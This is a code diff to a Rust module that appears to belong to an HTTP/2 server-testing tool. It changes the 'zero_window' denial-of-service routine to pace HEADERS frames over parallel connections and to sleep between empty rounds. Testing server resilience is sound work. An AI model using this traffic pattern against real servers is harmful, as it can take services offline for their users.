@@ -6,7 +6,7 @@ use std::time::Duration;
 
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::net::TcpStream;
-use tokio::time::{Instant, timeout, timeout_at};
+use tokio::time::{Instant, sleep, timeout, timeout_at};
 
 use crate::Plan;
 use crate::attack::Seen;
@@ -25,6 +25,8 @@ const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 
+/// Rounds between two requests of a client that takes nothing: a tenth of a second.
+const ROUNDS: u32 = 10;
 /// Connections side by side in each attack.
 const CONNECTIONS: usize = 10;
 
@@ -78,10 +80,14 @@ async fn write_until(
     let (mut from, mut to) = stream.into_split();
     let writing = async {
         for round in 0.. {
-            if to.write_all(&next(round)).await.is_err() {
+            let bytes = next(round);
+            if bytes.is_empty() {
+                sleep(Duration::from_millis(10)).await;
+            } else if to.write_all(&bytes).await.is_err() {
                 return true;
+            } else {
+                tokio::task::yield_now().await;
             }
-            tokio::task::yield_now().await;
         }
         true
     };
@@ -204,8 +210,14 @@ pub(crate) async fn zero_window(plan: &Plan, time: Duration) -> Seen {
     attack(plan, time, &[0, 4, 0, 0, 0, 0], || {
         let block = block.clone();
         move |round| {
-            if round < 100 {
-                frame(HEADERS, END_STREAM | END_HEADERS, stream_id(round), &block)
+            // As many streams as most servers allow, asked for one after the other.
+            if round % ROUNDS == 0 && round / ROUNDS < 100 {
+                frame(
+                    HEADERS,
+                    END_STREAM | END_HEADERS,
+                    stream_id(round / ROUNDS),
+                    &block,
+                )
             } else {
                 Vec::new()
             }
